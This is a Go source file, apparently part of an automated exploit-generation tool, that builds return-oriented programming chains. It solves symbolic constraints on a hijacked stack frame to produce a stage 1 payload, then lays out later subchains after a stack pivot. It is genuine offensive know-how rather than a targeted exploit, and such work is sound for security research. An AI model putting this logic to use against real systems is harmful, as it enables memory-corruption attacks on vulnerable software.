// Package ropchain lays the subchains of a plan's techniques out as the
// chain an exploit sends.
//
// The first technique's chain overlaps the hijacked stack frame, whose
// content is derived from the symbolic input. It is therefore turned
// into constraints on the exploitable path, and the solver's solution
// becomes the stage 1 payload. Once a stack pivot moves the stack to
// memory the exploit writes directly, subsequent subchains are used
// as they are (direct mode).
package ropchain

import (
	"errors"
	"fmt"
	"log"

	"gitlab.com/stephen-fox/expgen/dynrop"
	"gitlab.com/stephen-fox/expgen/elfkit"
	"gitlab.com/stephen-fox/expgen/engine"
	"gitlab.com/stephen-fox/expgen/memory"
	"gitlab.com/stephen-fox/expgen/ropkit"
	"gitlab.com/stephen-fox/expgen/technique"
)

// ErrUnsatisfiable is returned when the solver has no input that
// satisfies the chain's constraints.
var ErrUnsatisfiable = errors.New("rop constraints are unsatisfiable")

// NewBuilder creates a Builder for the exploitable path. symtab is the
// script's symbol table, in which stack pivots register their
// destination.
func NewBuilder(path engine.Path, elf *elfkit.Image, symtab *memory.AddressTable) *Builder {
	return &Builder{
		path:     path,
		elf:      elf,
		symtab:   symtab,
		symbolic: true,
	}
}

// NewSolvedBuilder creates a Builder for a stage 1 payload that a
// previous run already solved. Nothing is constrained: the first
// subchain of each technique chained before a stack pivot is expected
// to be part of stage1.
func NewSolvedBuilder(stage1 []byte, elf *elfkit.Image, symtab *memory.AddressTable) *Builder {
	return &Builder{
		elf:      elf,
		symtab:   symtab,
		symbolic: true,
		solved:   stage1,
	}
}

// Builder accumulates the chain of a plan, one technique at a time.
type Builder struct {
	// OptLogger, when non-nil, is used instead of log.Default.
	OptLogger *log.Logger

	path   engine.Path
	elf    *elfkit.Image
	symtab *memory.AddressTable

	symbolic        bool
	savedRbpWritten bool
	solved          []byte

	// symbolicRspOffset is where the next memory constraint goes,
	// relative to RSP.
	symbolicRspOffset uint64

	// directOffset is where the next direct-mode value goes, relative
	// to the first value after the pivoted saved RBP.
	directOffset uint64

	chain []ropkit.Subchain
}

func (o *Builder) logger() *log.Logger {
	if o.OptLogger != nil {
		return o.OptLogger
	}

	return log.Default()
}

// Chain adds a technique's subchains to the chain. Techniques without
// subchains are ignored.
func (o *Builder) Chain(t technique.Technique) error {
	subchains, err := t.RopSubchains()
	if err != nil {
		return fmt.Errorf("failed to get rop subchains of %s - %w", t.Name(), err)
	}

	if len(subchains) == 0 {
		return nil
	}

	if !o.symbolic {
		return o.chainDirect(subchains, t.ExtraRopSubchain(), true)
	}

	if o.path != nil {
		err = o.chainSymbolic(subchains[0])
		if err != nil {
			return fmt.Errorf("failed to constrain %s - %w", t.Name(), err)
		}
	}

	if _, isPivot := t.(technique.StackPivot); !isPivot {
		return nil
	}

	o.logger().Println("switching to direct mode")

	err = o.buildStage1()
	if err != nil {
		return err
	}

	o.symbolic = false

	if len(subchains) > 1 {
		// The rest of a pivot's chain has no saved RBP, and the
		// technique that follows it must not write one either.
		o.savedRbpWritten = true

		return o.chainDirect(subchains[1:], t.ExtraRopSubchain(), false)
	}

	return nil
}

// chainSymbolic constrains RBP, RIP and the stack that follows the
// hijacked return address to the values of subchain.
func (o *Builder) chainSymbolic(subchain ropkit.Subchain) error {
	rsp, err := o.path.ReadRegister(engine.RSP)
	if err != nil {
		return err
	}

	for i, e := range subchain {
		value, err := ropkit.Value(e)
		if err != nil {
			return fmt.Errorf("failed to evaluate %q - %w", ropkit.Render(e), err)
		}

		var ok bool
		switch i {
		case 0:
			ok = o.path.AddRegisterConstraint(engine.RBP, value)
			o.logger().Printf("rbp = %s (concretized=0x%x)", ropkit.Render(e), value)
		case 1:
			ok = o.path.AddRegisterConstraint(engine.RIP, value)
			o.logger().Printf("rip = %s (concretized=0x%x)", ropkit.Render(e), value)
		default:
			ok = o.path.AddMemoryConstraint(rsp+o.symbolicRspOffset, value)
			o.logger().Printf("[rsp + %d] = %s (concretized=0x%x)",
				o.symbolicRspOffset, ropkit.Render(e), value)
			o.symbolicRspOffset += 8
		}

		if !ok {
			return fmt.Errorf("%w: %s = 0x%x", dynrop.ErrInfeasibleConstraint, ropkit.Render(e), value)
		}
	}

	return nil
}

// chainDirect appends subchains, each in a subchain of its own, then
// the extra subchain. Only the first direct-mode technique keeps its
// saved RBP. hasSavedRbp is false for the direct part of a stack
// pivot, whose subchains all lie on the pivoted stack.
func (o *Builder) chainDirect(subchains []ropkit.Subchain, extra ropkit.Subchain, hasSavedRbp bool) error {
	start := 0
	if hasSavedRbp && len(subchains[0]) > 0 {
		start = 1

		if !o.savedRbpWritten {
			o.savedRbpWritten = true
			o.appendToLast(subchains[0][0])
		}
	}

	base := o.directOffset

	for i, subchain := range subchains {
		for _, e := range subchain[start:] {
			e, err := o.concretize(e, base)
			if err != nil {
				return err
			}

			o.appendToLast(e)

			// Only the first subchain of a technique lies on the
			// pivoted stack, the others are the input of its reads.
			if i == 0 || !hasSavedRbp {
				o.directOffset += uint64(ropkit.Size(ropkit.Subchain{e}))
			}
		}

		start = 0

		if i != len(subchains)-1 {
			o.chain = append(o.chain, ropkit.Subchain{})
		}
	}

	if len(extra) > 0 {
		o.chain = append(o.chain, ropkit.Subchain{})

		for _, e := range extra {
			o.appendToLast(e)
		}
	}

	// Whatever follows is sent on its own.
	if len(subchains) > 1 || len(extra) > 0 {
		o.chain = append(o.chain, ropkit.Subchain{})
	}

	return nil
}

func (o *Builder) appendToLast(e ropkit.Expr) {
	if len(o.chain) == 0 {
		o.chain = append(o.chain, ropkit.Subchain{})
	}

	o.chain[len(o.chain)-1] = append(o.chain[len(o.chain)-1], e)
}

// concretize replaces chain offset placeholders with the address they
// refer to in the pivoted stack. base is the offset of the technique's
// first value.
func (o *Builder) concretize(e ropkit.Expr, base uint64) (ropkit.Expr, error) {
	p, isPlaceholder := e.(ropkit.Placeholder)
	if !isPlaceholder || p.Tag != ropkit.ChainOffsetTag {
		return e, nil
	}

	dest, hasIt := o.symtab.LookupInContext(technique.PivotDest, o.elf.Name)
	if !hasIt {
		return nil, fmt.Errorf("%s is required for chain offset placeholders", technique.PivotDest)
	}

	// The saved RBP sits at pivot_dest.
	return ropkit.Var(o.elf, technique.PivotDest, dest).Plus(8 + base + p.Offset), nil
}

// buildStage1 appends the solver's solution for the first symbolic
// input, followed by an empty subchain.
func (o *Builder) buildStage1() error {
	stage1 := o.solved

	if o.path != nil {
		inputs, err := o.path.SymbolicSolution()
		if err != nil {
			return fmt.Errorf("failed to get symbolic solution - %w", err)
		}

		if len(inputs) > 0 {
			stage1 = inputs[0].Value
		}
	}

	if len(stage1) == 0 {
		return ErrUnsatisfiable
	}

	o.chain = append(o.chain,
		ropkit.Subchain{ropkit.ByteVector(stage1)},
		ropkit.Subchain{})

	return nil
}

// Build returns the chain. Its first subchain holds the stage 1
// payload as a single byte vector.
func (o *Builder) Build() ([]ropkit.Subchain, error) {
	if o.symbolic {
		err := o.buildStage1()
		if err != nil {
			return nil, err
		}
	}

	chain := o.chain
	for len(chain) > 0 && len(chain[len(chain)-1]) == 0 {
		chain = chain[:len(chain)-1]
	}

	return chain, nil
}
